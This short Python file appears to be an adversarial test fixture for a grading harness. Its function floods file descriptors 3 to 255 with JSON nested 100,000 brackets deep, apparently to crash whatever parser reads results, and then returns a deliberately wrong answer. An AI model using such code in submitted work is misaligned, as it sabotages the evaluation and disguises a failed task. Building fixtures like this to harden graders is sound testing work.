# Writes JSON nested a hundred thousand deep to every descriptor, and answers wrongly itself.
import os


def f(x):
    payload = b'{"value": ' + b"[" * 100_000 + b"\n"
    for number in range(3, 256):
        try:
            os.set_blocking(number, False)
            os.write(number, payload)
        except OSError:
            pass
    return 2 if x == 1 else 0
